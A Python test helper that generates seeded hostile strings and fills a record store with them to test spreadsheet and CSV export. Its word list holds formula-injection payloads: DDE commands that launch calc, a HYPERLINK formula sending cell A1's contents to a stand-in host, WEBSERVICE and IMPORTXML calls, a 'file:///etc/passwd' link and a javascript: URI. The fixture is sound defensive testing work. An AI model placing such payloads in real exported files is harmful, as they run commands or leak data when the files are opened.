"""Strings that make spreadsheets compute, break lines or lose their place, and stores whose every field is one.

Drawn from a seed: the same number gives the same strings.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from dataclasses import replace
from pathlib import Path

from hand_records import event, statement
from stores import store_with

from onrecord.documents.model import Document, Span
from onrecord.records.rows import ActorRow, DocumentRow, Participant, PublicationRow, Quote, Record
from onrecord.store.coded import Outcome
from onrecord.store.folder import Store

_FIRST = ("=", "+", "-", "@", "\t", "\r", "\n", " ", "'", '"', "＝", "＋", "－", "＠",
          "\ufeff", "\u00a0", "\u200f", "\x00",
          "\x0b", "''", "' ", "'\t", ";", ",", "|", "{=", "", "", "")  # fmt: skip
_WORDS = (
    "1+2", "=1+2", "-5", "+491701234567", "010", "13E2", "1e999", "2024-05", "1/2", "NA", "None", "null", "TRUE",
    "#REF!", "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")',
    "=WEBSERVICE(A1)",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=IMPORTXML(CONCAT(\"http://x.example\"))", "{=1+2}", "internal:Sheet1!A1",
    "mailto:a@b.example", "file:///etc/passwd", "javascript:alert(1)", "external:c:\\x.xlsx", "http://x.example/a b",
    "_x000D_", "_x0041_", "&#61;1+2", "<b>bold</b>", "</t></is><f>1+2</f>", "]]>", "sep=;", "ID", "\r\n", "\n\n", "\r",
    '""', '"', "'", "''", ",", ";", "\t", "\\", "\\N", "\\n", "%0A", "a,b;c\td", "“No,” he said", "Xi’an", "İstanbul",
    "هذا", "\u202eevil\u202c", "\u2066x\u2069", "👩‍👩‍👧", "e\u0301", "𝕏", "\ud7ff", "\ufffd", "\ufffe", "\uffff",
    "\x01\x02", "\x1f", "\x7f", "\x85", "\u2028", "\u2029", "---REB", "---", "--", "=", "+", "@", "word", "two words",
)  # fmt: skip


def hostile_strings(number: int, seed: int = 1) -> list[str]:
    """So many strings, none empty; one of a thousand is too long for a cell of Excel."""
    draw = random.Random(seed)  # noqa: S311 - nothing is secret
    return [_string(draw, is_long=at % 1000 == 500) for at in range(number)]


def _string(draw: random.Random, *, is_long: bool) -> str:
    words = draw.choices(_WORDS, k=draw.choice((1, 1, 1, 2, 3, 5)))
    text = draw.choice(_FIRST) + draw.choice(("", " ", "\n", ",")).join(words)
    return text + "long " * 8000 if is_long else text


_A_REPORT, _A_PART = 10, 500


def hostile_store(path: Path, strings: Sequence[str]) -> Store:
    """A store in which each string is the trigger of an event, and other fields of others; ten strings a report."""
    starts = range(0, len(strings), _A_REPORT)
    outcomes = [_report(number, strings[at : at + _A_REPORT]) for number, at in enumerate(starts)]
    return store_with(path, *(outcomes[at : at + _A_PART] for at in range(0, len(outcomes), _A_PART)))


def _report(number: int, strings: Sequence[str]) -> Outcome:
    pieces = [f"{number}. ", *(piece for string in strings for piece in (string, " "))]
    text = "".join(pieces)
    document = Document(text)
    quotes = list(_quotes(document, strings, len(pieces[0])))
    actors = [
        ActorRow(f"a-{document.id}-{at}", string, string, None, string, "body") for at, string in enumerate(strings)
    ]
    events, statements = [], []
    for at, quote in enumerate(quotes):
        words = quotes[at - 1]
        party = Participant(words.span, words.text, actors[at].id)
        key = f"{document.id}-{at}"
        said = statement(text, party, None, strings[at])
        statements.append(
            replace(said, id=f"s-{key}", anchor=f"n-{key}", document=document.id, cue=words, content=(quote, words))
        )
        done = event(text, strings[at], (party,), (party,))
        events.append(
            replace(done, id=f"e-{key}", anchor=f"n-{key}", document=document.id, trigger=quote, told=(quote, words),
                    voucher=(f"s-{key}",), status_cue=words, rule=strings[at], co_actors=(party,))
        )  # fmt: skip
    known = {"title": strings[0], "outlet": strings[-1], "url": strings[len(strings) // 2], "published": "2019-05-29"}
    row = DocumentRow(document.id, **known, language="en", text=text, sha256=document.sha256)
    record = Record(row, tuple(statements), tuple(events), tuple(actors), ())
    printed = PublicationRow(document.id, **known, input=f"made-{number}")
    return Outcome(f"made-{number}", document.sha256, record.to_dict(), printed)


def _quotes(document: Document, strings: Sequence[str], at: int) -> Iterator[Quote]:
    for string in strings:
        yield Quote.of(document, Span(at, at + len(string)))
        at += len(string) + 1
